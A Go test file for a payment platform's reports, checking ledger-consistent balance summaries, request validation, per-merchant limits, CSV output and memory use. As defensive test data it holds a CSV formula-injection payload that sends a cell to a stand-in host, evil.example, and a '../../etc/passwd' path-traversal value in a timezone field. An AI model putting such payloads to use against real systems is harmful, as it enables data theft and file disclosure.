package business_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kassa/kassa/business"
	"github.com/kassa/kassa/ledger"
	"github.com/kassa/kassa/money"
	"github.com/kassa/kassa/payment"
)

// reportFile generates pending reports and returns r's file.
func (e *env) reportFile(r business.Report) (business.Report, []byte) {
	e.t.Helper()
	ctx := context.Background()
	if _, err := e.biz.RunReports(ctx); err != nil {
		e.t.Fatal(err)
	}
	r, err := e.biz.Report(ctx, r.MerchantID, r.ID)
	if err != nil {
		e.t.Fatal(err)
	}
	var buf bytes.Buffer
	if r.Status == business.ReportSucceeded {
		if err := e.biz.ReportFile(ctx, r.MerchantID, r.ID, &buf); err != nil {
			e.t.Fatal(err)
		}
	}
	return r, buf.Bytes()
}

type summaryFile struct {
	Checkpoint struct {
		TreeSize int64  `json:"tree_size"`
		RootHash string `json:"root_hash"`
	} `json:"ledger_checkpoint"`
	Rows []struct {
		Currency string `json:"currency"`
		Category string `json:"category"`
		Count    int64  `json:"count"`
		Gross    int64  `json:"gross"`
		Fee      int64  `json:"fee"`
		Net      int64  `json:"net"`
	} `json:"rows"`
}

// TestReportsAgainstLedger: on both backends, balance_summary names the
// ledger checkpoint it was computed at, and its figures equal sums taken
// independently from the ledger: the closing balance is the merchant
// account's available plus pending, the fees are what platform revenue
// received, the charges what payments captured, the refunds what they
// refunded; an interval that starts midway opens with the balance before.
func TestReportsAgainstLedger(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		must(t, e.biz.SetPricing(ctx, business.Pricing{MerchantID: e.merchant, Method: business.MethodDefault, PercentBps: 300, Fixed: 30}))
		must(t, e.biz.SetDelay(ctx, e.merchant, 24*time.Hour))
		must(t, e.biz.SetBankAccount(ctx, e.merchant, ibanPaid, "Shop GmbH"))
		start := e.clk.Now()
		var captured, refunded money.Amount
		var ps []payment.Payment
		for i := range 12 {
			p := e.charge(e.merchant, money.Amount(1000+137*i), i%3 == 0)
			ps, captured = append(ps, p), captured+p.AmountCaptured
			e.clk.Advance(90 * time.Minute)
		}
		mid := e.clk.Now() // the refunds are in the interval from mid, the charges before it
		for _, p := range ps[:4] {
			amt := money.Amount(200)
			if _, _, err := e.pay.CreateRefund(ctx, e.merchant, payment.RefundRequest{Payment: p.ID, Amount: &amt}); err != nil {
				t.Fatal(err)
			}
			refunded += amt
		}
		e.clk.Advance(25 * time.Hour)
		must(t, e.led.ExpirePending(ctx))
		if _, err := e.biz.Settle(ctx, e.merchant, "Shop GmbH", ""); err != nil {
			t.Fatal(err)
		}
		e.charge(e.other, 777, false) // another tenant: not in the report
		e.clk.Advance(time.Hour)

		r, err := e.biz.CreateReport(ctx, e.merchant, business.ReportRequest{Type: business.ReportBalanceSummary, Format: "json",
			Timezone: "Europe/Berlin", IntervalStart: start.Add(-time.Hour).Format(time.RFC3339), IntervalEnd: e.clk.Now().Format(time.RFC3339)})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != business.ReportPending {
			t.Fatalf("new report %s", r.Status)
		}
		r, file := e.reportFile(r)
		if r.Status != business.ReportSucceeded {
			t.Fatalf("report %s: %s", r.Status, r.FailureMessage)
		}
		var f summaryFile
		if err := json.Unmarshal(file, &f); err != nil {
			t.Fatalf("report file: %v\n%s", err, file)
		}
		cp, err := e.led.LatestCheckpoint(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if f.Checkpoint.TreeSize != cp.Size || r.TreeSize != cp.Size || r.RootHash != f.Checkpoint.RootHash || r.RootHash == "" {
			t.Errorf("report names checkpoint %d %s, ledger's is %d", r.TreeSize, r.RootHash, cp.Size)
		}
		got := map[string]int64{}
		for _, row := range f.Rows {
			if row.Currency != "EUR" {
				t.Errorf("row in %s", row.Currency)
			}
			got[row.Category+".gross"], got[row.Category+".fee"], got[row.Category+".net"] = row.Gross, row.Fee, row.Net
		}
		// Independent sums from the ledger at the checkpoint (nothing
		// moved since it).
		m, err := e.led.Account(ctx, "", "merchant:"+e.merchant+":EUR")
		if err != nil {
			t.Fatal(err)
		}
		var hold ledger.Account
		if h, err := e.led.Account(ctx, "", payment.HoldAccount(e.merchant, "EUR")); err == nil {
			hold = h
		}
		rev, err := e.led.Account(ctx, "", payment.RevenueAccount("EUR"))
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]int64{
			"opening_balance.net": 0,
			"closing_balance.net": int64(m.CreditsPosted - m.DebitsPosted - m.DebitsPending + hold.CreditsPending),
			"charge.gross":        int64(captured),
			"charge.fee":          int64(rev.CreditsPosted),
			"refund.net":          -int64(refunded),
		}
		for k, v := range want {
			if got[k] != v {
				t.Errorf("%s = %d, the ledger says %d", k, got[k], v)
			}
		}
		if got["settlement.net"] >= 0 || got["closing_balance.net"] != 0 {
			t.Errorf("after settling everything: settlement %d, closing %d", got["settlement.net"], got["closing_balance.net"])
		}
		// More money moves after the report: walking the merchant account's
		// transfers below the report's tree size (the ledger's own account
		// index, not the balance transactions) still gives its figures.
		e.charge(e.merchant, 4321, false)
		if closing, fees := walkLedger(t, e, "merchant:"+e.merchant+":EUR", r.TreeSize); closing != got["closing_balance.net"] || fees != got["charge.fee"] {
			t.Errorf("the ledger below tree size %d: closing %d, fees %d; the report: %d, %d", r.TreeSize, closing, fees,
				got["closing_balance.net"], got["charge.fee"])
		}
		if closing, _ := walkLedger(t, e, "merchant:"+e.merchant+":EUR", 1<<62); closing == got["closing_balance.net"] {
			t.Error("the walk does not see the charge after the checkpoint: it proves nothing")
		}
		// From midway: it opens with what came before and still adds up.
		r2, err := e.biz.CreateReport(ctx, e.merchant, business.ReportRequest{Type: business.ReportBalanceSummary, Format: "csv",
			IntervalStart: mid.Format(time.RFC3339), IntervalEnd: e.clk.Now().Format(time.RFC3339)})
		if err != nil {
			t.Fatal(err)
		}
		r2, file = e.reportFile(r2)
		recs, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil || r2.Status != business.ReportSucceeded {
			t.Fatalf("csv summary %s %v: %s", r2.Status, err, file)
		}
		if recs[0][0] != "currency" || recs[1][1] != "opening_balance" || recs[1][5] != fmt.Sprint(int64(captured)-int64(rev.CreditsPosted)) || recs[2][1] != "refund" {
			t.Errorf("csv summary from midway:\n%s", file)
		}
		// The settlement reconciliation lists the settled lines; they sum to the settlement.
		r3, err := e.biz.CreateReport(ctx, e.merchant, business.ReportRequest{Type: business.ReportSettlementReconciliation,
			IntervalStart: start.Format(time.DateOnly), IntervalEnd: e.clk.Now().Add(24 * time.Hour).Format(time.DateOnly)})
		if err != nil {
			t.Fatal(err)
		}
		r3, file = e.reportFile(r3)
		recs, err = csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil || r3.Status != business.ReportSucceeded {
			t.Fatalf("reconciliation %s %v", r3.Status, err)
		}
		var lines int64
		for _, rec := range recs[1:] {
			var n int64
			fmt.Sscan(rec[11], &n)
			lines += n
		}
		if lines != got["closing_balance.net"]-got["settlement.net"] || len(recs) < 13 {
			t.Errorf("reconciliation lines sum to %d in %d rows, settlement was %d", lines, len(recs)-1, -got["settlement.net"])
		}
		// Another merchant cannot read it.
		if _, err := e.biz.Report(ctx, e.other, r.ID); code(err) != "report_not_found" {
			t.Errorf("other merchant reads the report: %v", err)
		}
		if err := e.biz.ReportFile(ctx, e.other, r.ID, io.Discard); code(err) != "report_not_found" {
			t.Errorf("other merchant reads the file: %v", err)
		}
	})
}

// TestReportValidation: bad requests change nothing; a merchant's pending
// reports are limited, also when asked for concurrently.
func TestReportValidation(t *testing.T) {
	forEachBackend(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		ok := business.ReportRequest{Type: business.ReportPayments, IntervalStart: "2026-03-01", IntervalEnd: "2026-03-02"}
		for _, tt := range []struct {
			mod  func(*business.ReportRequest)
			code string
		}{
			{func(r *business.ReportRequest) { r.Type = "everything" }, "report_type_invalid"},
			{func(r *business.ReportRequest) { r.Format = "xlsx" }, "format_invalid"},
			{func(r *business.ReportRequest) { r.Timezone = "Mars/Olympus" }, "timezone_invalid"},
			{func(r *business.ReportRequest) { r.Timezone = "../../etc/passwd" }, "timezone_invalid"},
			{func(r *business.ReportRequest) { r.IntervalStart = "yesterday" }, "interval_invalid"},
			{func(r *business.ReportRequest) { r.IntervalEnd = r.IntervalStart }, "interval_invalid"},
			{func(r *business.ReportRequest) { r.IntervalEnd = "2027-06-01" }, "interval_invalid"},
		} {
			req := ok
			tt.mod(&req)
			if _, err := e.biz.CreateReport(ctx, e.merchant, req); code(err) != tt.code {
				t.Errorf("CreateReport(%+v) = %v, want %s", req, err, tt.code)
			}
		}
		var wg sync.WaitGroup
		var made atomic.Int64
		for range business.ReportPendingMax + 10 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				_, err := e.biz.CreateReport(ctx, e.merchant, ok)
				switch code(err) {
				case "":
					made.Add(1)
				case "reports_pending_limit":
				default:
					t.Errorf("CreateReport: %v", err)
				}
			}()
		}
		wg.Wait()
		if made.Load() != business.ReportPendingMax {
			t.Errorf("%d reports pending, limit %d", made.Load(), business.ReportPendingMax)
		}
		// The other tenant is not limited by them.
		if _, err := e.biz.CreateReport(ctx, e.other, ok); err != nil {
			t.Errorf("other merchant: %v", err)
		}
	})
}

// TestPaymentsReportCSV: times in the report's timezone, a payer's
// formula in merchant_reference is defused, fees shown.
func TestPaymentsReportCSV(t *testing.T) {
	e := newSQLiteEnv(t)
	ctx := context.Background()
	must(t, e.biz.SetPricing(ctx, business.Pricing{MerchantID: e.merchant, Method: business.MethodDefault, Fixed: 40}))
	p, err := e.pay.Create(ctx, e.merchant, payment.CreateRequest{Amount: 1000, Currency: "EUR",
		MerchantReference: `=HYPERLINK("http://evil.example/?x="&A1,"click")`})
	if err != nil {
		t.Fatal(err)
	}
	e.clk.Advance(time.Minute)
	e.charge(e.merchant, 500, false)
	r, err := e.biz.CreateReport(ctx, e.merchant, business.ReportRequest{Type: business.ReportPayments, Timezone: "America/New_York",
		IntervalStart: "2026-03-01", IntervalEnd: "2026-03-03"})
	if err != nil {
		t.Fatal(err)
	}
	r, file := e.reportFile(r)
	recs, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
	if err != nil || r.Status != business.ReportSucceeded || len(recs) != 3 || r.Rows != 2 {
		t.Fatalf("payments report %s %v rows %d:\n%s", r.Status, err, r.Rows, file)
	}
	if recs[1][0] != p.ID || !strings.HasPrefix(recs[1][9], "'=") {
		t.Errorf("formula not defused: %q", recs[1])
	}
	if recs[1][1] != "2026-03-02T04:00:00-05:00" {
		t.Errorf("created in New York time = %q", recs[1][1])
	}
	if recs[2][8] != "40" || recs[2][6] != "500" {
		t.Errorf("captured payment row %q", recs[2])
	}
	var data string
	if err := e.db.QueryRowContext(ctx, `SELECT data FROM webhook_events WHERE merchant_id = ? AND type = ?`,
		e.merchant, business.EventReportSucceeded).Scan(&data); err != nil || !strings.Contains(data, r.ID) ||
		!strings.Contains(data, `"tree_size"`) || !strings.Contains(data, `"/v1/reports/`+r.ID+`/file"`) {
		t.Errorf("report.succeeded event: %v %s", err, data)
	}
}

// TestReportMillionPayments: a payments report over a million payments
// (written straight into the store) streams with bounded memory: the peak
// heap, sampled while it runs, stays under a cap far below the file.
func TestReportMillionPayments(t *testing.T) {
	if testing.Short() {
		t.Skip("a million payments: not in -short")
	}
	if raceEnabled {
		t.Skip("SKIPPED under the race detector (the transpiled SQLite runs many times slower); .ci/run runs it without -race")
	}
	e := newSQLiteEnv(t)
	ctx := context.Background()
	const n = 1_000_000
	base := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	t0 := time.Now()
	insertPayments(t, e, n, base)
	t.Logf("inserted %d payments in %s", n, time.Since(t0).Round(time.Millisecond))
	r, err := e.biz.CreateReport(ctx, e.merchant, business.ReportRequest{Type: business.ReportPayments,
		IntervalStart: "2026-02-28", IntervalEnd: "2026-03-30"})
	if err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			if ms.HeapInuse > peak.Load() {
				peak.Store(ms.HeapInuse)
			}
			select {
			case <-stop:
				return
			case <-time.After(10 * time.Millisecond):
			}
		}
	}()
	t0 = time.Now()
	if _, err := e.biz.RunReports(ctx); err != nil {
		t.Fatal(err)
	}
	t.Logf("generated in %s", time.Since(t0).Round(time.Millisecond))
	cw := &countingDiscard{}
	err = e.biz.ReportFile(ctx, e.merchant, r.ID, cw)
	close(stop)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	r, err = e.biz.Report(ctx, e.merchant, r.ID)
	if err != nil || r.Status != business.ReportSucceeded || r.Rows != n || r.Size != cw.n || cw.lines != n+1 {
		t.Fatalf("report %s rows %d size %d; read %d bytes in %d lines; %v", r.Status, r.Rows, r.Size, cw.n, cw.lines, err)
	}
	const capBytes = 64 << 20
	t.Logf("a %d MB file of %d rows; peak heap in use %d MB", r.Size>>20, r.Rows, peak.Load()>>20)
	if peak.Load() > capBytes {
		t.Errorf("peak heap in use %d MB, cap %d MB", peak.Load()>>20, capBytes>>20)
	}
	if r.Size <= capBytes {
		t.Errorf("the file (%d MB) is not larger than the cap: the test proves nothing", r.Size>>20)
	}
}

type countingDiscard struct{ n, lines int64 }

func (c *countingDiscard) Write(p []byte) (int, error) {
	c.n += int64(len(p))
	c.lines += int64(bytes.Count(p, []byte{'\n'}))
	return len(p), nil
}

// insertPayments writes n captured payments of the merchant straight into
// the payments table, one SQL statement (a recursive CTE), every column
// its type's zero unless named.
func insertPayments(t *testing.T, e *env, n int, base time.Time) {
	t.Helper()
	ctx := context.Background()
	rows, err := e.db.Writer().QueryContext(ctx, `SELECT name, type, "notnull", dflt_value FROM pragma_table_info('payments')`)
	if err != nil {
		t.Fatal(err)
	}
	var cols, vals []string
	for rows.Next() {
		var name, typ string
		var notnull int
		var dflt *string
		if err := rows.Scan(&name, &typ, &notnull, &dflt); err != nil {
			t.Fatal(err)
		}
		v := "0"
		if strings.Contains(strings.ToUpper(typ), "TEXT") {
			v = "''"
		}
		switch name {
		case "id":
			v = "'pay_m' || i"
		case "merchant_id":
			v = "'" + e.merchant + "'"
		case "amount", "amount_captured":
			v = "1000 + i % 5000"
		case "currency":
			v = "'EUR'"
		case "capture_method":
			v = "'automatic'"
		case "status":
			v = "'captured'"
		case "method_type":
			v = "'voucher'"
		case "merchant_reference":
			v = "'order-' || i"
		case "created_at", "updated_at":
			v = fmt.Sprintf("%d + i * 1000000", base.UnixMicro())
		case "version":
			v = "1"
		case "risk_score":
			v = "-1"
		}
		if notnull == 0 && dflt == nil && name != "merchant_reference" && v == "''" {
			v = "NULL"
		}
		cols, vals = append(cols, name), append(vals, v)
	}
	rows.Close()
	q := fmt.Sprintf(`WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < %d)
		INSERT INTO payments (%s) SELECT %s FROM n`, n-1, strings.Join(cols, ", "), strings.Join(vals, ", "))
	if _, err := e.db.Writer().ExecContext(ctx, q); err != nil {
		t.Fatal(err)
	}
}

// walkLedger recomputes, from the ledger's transfers of a merchant account
// below treeSize, its balance (available plus held: every movement but
// authorizations) and the fees it paid, independently of package
// business: posted credits and debits count, pending debits count when
// reserved (and come back when voided), pending credits when posted;
// transfers to its hold account are inside the balance.
func walkLedger(t *testing.T, e *env, acct string, treeSize int64) (balance, fees int64) {
	t.Helper()
	ctx := context.Background()
	reserved := map[string]int64{}
	after := ""
	for {
		ts, more, err := e.led.AccountTransfers(ctx, "", acct, after, ledger.PageLimitMax)
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range ts {
			if x.LeafIndex >= treeSize {
				return balance, fees
			}
			debit := x.DebitAccountID == acct
			hold := strings.HasPrefix(x.CreditAccountID, "merchant_hold:") || strings.HasPrefix(x.DebitAccountID, "merchant_hold:")
			amt := int64(x.Amount)
			switch {
			case hold:
			case x.Flags&ledger.FlagPending != 0:
				if debit {
					reserved[x.ID] = amt
					balance -= amt
				}
			case x.Flags&ledger.FlagPostPending != 0:
				if debit {
					balance += reserved[x.PendingID] - amt
				} else {
					balance += amt
				}
			case x.Flags&ledger.FlagVoidPending != 0:
				if debit {
					balance += amt
				}
			case debit:
				balance -= amt
				if strings.HasSuffix(x.ID, ":fee") {
					fees += amt
				}
			default:
				balance += amt
			}
		}
		if !more {
			return balance, fees
		}
		after = ts[len(ts)-1].ID
	}
}
